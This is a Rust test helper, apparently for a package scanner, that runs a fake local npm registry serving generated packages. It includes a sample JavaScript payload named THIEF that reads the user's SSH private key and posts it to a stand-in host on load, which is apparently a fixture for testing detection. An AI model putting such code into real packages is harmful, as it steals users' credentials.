//! A registry on 127.0.0.1 with many small packages.

use std::collections::BTreeMap;

use mcpscan::model::ArtifactKind;
use serde_json::{Value, json};

use crate::judged::pack;
use crate::npm_world::sri;
use crate::registry::{Answer, Server};

/// Packages by name and version; each has a package.json and the files that it is given.
pub struct Market {
    pub server: Server,
    versions: BTreeMap<String, serde_json::Map<String, Value>>,
}

impl Market {
    pub fn new() -> Self {
        Self { server: Server::start(), versions: BTreeMap::new() }
    }

    /// `id` is `name@version`; `more` goes into package.json and into what the registry says.
    pub fn sells(mut self, id: &str, more: Value, files: &[(&str, &str)]) -> Self {
        let (name, version) = id.rsplit_once('@').expect("an id has a version");
        let mut manifest = json!({"name": name, "version": version, "main": "index.js", "description": "Does one thing", "license": "MIT"});
        manifest.as_object_mut().expect("it is one").extend(more.as_object().cloned().unwrap_or_default());
        let mut content = vec![
            ("package.json".to_owned(), manifest.to_string().into_bytes()),
            ("README.md".to_owned(), format!("# {name}\n\nDoes one thing.\n").into_bytes()),
        ];
        content.extend(files.iter().map(|(path, text)| ((*path).to_owned(), text.as_bytes().to_vec())));
        let tarball = pack(ArtifactKind::NpmTarball, &content).bytes;
        let path = format!("/{name}/-/{}-{version}.tgz", name.rsplit('/').next().expect("a name has a last part"));
        self.server.route(&path, [Answer::file(tarball.to_vec())]);
        manifest["dist"] = json!({"tarball": self.server.url(&path), "integrity": sri(&tarball)});
        let versions = self.versions.entry(name.to_owned()).or_default();
        versions.insert(version.to_owned(), manifest);
        let document = json!({"name": name, "dist-tags": {"latest": version}, "versions": versions});
        self.server.route(&format!("/{}", name.replace('/', "%2f")), [Answer::json(&document)]);
        self
    }

    /// A package that loads what it needs and does enough of its own to be no mere hand-over.
    pub fn offers(self, id: &str, needs: &[(&str, &str)]) -> Self {
        let imports: String = needs.iter().map(|(name, _)| format!("require('{name}');\n")).collect();
        let needs: serde_json::Map<String, Value> = needs.iter().map(|(name, range)| ((*name).to_owned(), json!(range))).collect();
        let own = "module.exports = (text) =>
    text.trim().toLowerCase().split(',').map(String).filter(Boolean).sort().reverse().slice(1).concat(['end']).join(';').padEnd(9);\n";
        self.sells(id, json!({"dependencies": needs}), &[("index.js", &format!("{imports}{own}"))])
    }

    /// What the registry says of a version.
    pub fn manifest(&self, name: &str, version: &str) -> &Value {
        &self.versions[name][version]
    }

    pub fn asked(&self) -> usize {
        self.server.asked().len()
    }
}

/// Sends a private key away as soon as it is loaded.
pub const THIEF: &str = "const fs = require('fs');
const https = require('https');
const os = require('os');
const key = fs.readFileSync(os.homedir() + '/.ssh/id_rsa', 'utf8');
https.request({ host: 'collect.example', method: 'POST' }).end(key);
";

/// Does what it says.
pub const HONEST: &str = "module.exports = (a, b) => a + b;\n";
